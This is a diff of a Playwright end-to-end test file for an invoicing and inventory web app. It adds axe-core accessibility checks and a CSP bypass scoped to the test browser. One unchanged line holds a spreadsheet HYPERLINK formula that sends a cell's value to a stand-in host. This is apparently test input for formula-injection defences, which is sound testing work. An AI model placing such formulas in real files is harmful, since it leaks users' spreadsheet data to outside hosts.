@@ -4,6 +4,7 @@
 // demo workspace) driven by playwright-core through the system's Chromium.
 import type { ChildProcess } from 'node:child_process';
 import { spawn } from 'node:child_process';
+import { createRequire } from 'node:module';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join, resolve } from 'node:path';
@@ -29,6 +30,7 @@ const BIN = join(REPO, 'packages/gst-ims/bin/gst-ims.js');
 const WEB_DIST = join(REPO, 'packages/web/dist/index.html');
 const SHOTS = join(REPO, 'test-output/screenshots');
 const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
+const AXE_SOURCE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
 const FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"click")';
 
 const CHROMIUM = findChromium();
@@ -160,6 +162,34 @@ const shownCount = async (page: Page): Promise<number> =>
       ?.replace(/,/g, ''),
   );
 
+/** axe-core's serious and critical findings on the page as it is now. */
+async function axeViolations(page: Page): Promise<string[]> {
+  if (!(await page.evaluate(() => 'axe' in window))) await page.addScriptTag({ path: AXE_SOURCE });
+  const found = await page.evaluate(async () => {
+    const axe = (
+      window as unknown as {
+        axe: {
+          run(
+            ctx: Document,
+            opts: object,
+          ): Promise<{
+            violations: { id: string; impact: string; nodes: { target: string[] }[] }[];
+          }>;
+        };
+      }
+    ).axe;
+    const r = await axe.run(document, { resultTypes: ['violations'] });
+    return r.violations.map((v) => ({
+      id: v.id,
+      impact: v.impact,
+      nodes: v.nodes.slice(0, 3).map((n) => n.target.join(' ')),
+    }));
+  });
+  return found
+    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
+    .map((v) => `${v.impact} ${v.id}: ${v.nodes.join(' | ')}`);
+}
+
 const rupees = (paise: number): string => (paise / 100).toFixed(2);
 const ddmmyyyy = (iso: string): string => iso.split('-').reverse().join('-');
 
@@ -188,6 +218,8 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
         args: CHROMIUM_ARGS,
         viewport: { width: 1440, height: 900 },
         acceptDownloads: true,
+        // axe-core goes in as a script tag, which the app's Content-Security-Policy would refuse.
+        bypassCSP: true,
         // Not en-IN: the app's formats must not come from the browser's locale.
         locale: 'en-US',
         timezoneId: 'Asia/Kolkata',
@@ -560,6 +592,21 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
       await panel.locator('.reasons li').first().waitFor();
       const items = await panel.locator('.reasons li').allInnerTexts();
       for (const r of items) expect([r, code.test(r)]).toEqual([r, false]);
+    });
+
+    it('is clean under axe-core: the Suppliers page, the supplier list open, a date typed', async () => {
+      const found: string[] = [];
+      await page.goto(`${serve.url}suppliers`);
+      await page.getByTestId('supplier-counts').getByText(/ suppliers · /).waitFor();
+      found.push(...(await axeViolations(page)).map((v) => `suppliers: ${v}`));
+      await page.goto(`${serve.url}records`);
+      await waitForCounts(page, 'Showing 1,500 of 1,500 records');
+      await page.getByPlaceholder('DD-MM-YYYY').first().fill('31-02-2026');
+      const box = page.getByRole('combobox', { name: /Supplier/ });
+      await box.fill(pick.word);
+      await page.locator('[data-testid=supplier-options]').waitFor();
+      found.push(...(await axeViolations(page)).map((v) => `records, list open: ${v}`));
+      expect(found).toEqual([]);
     });
   },
 );
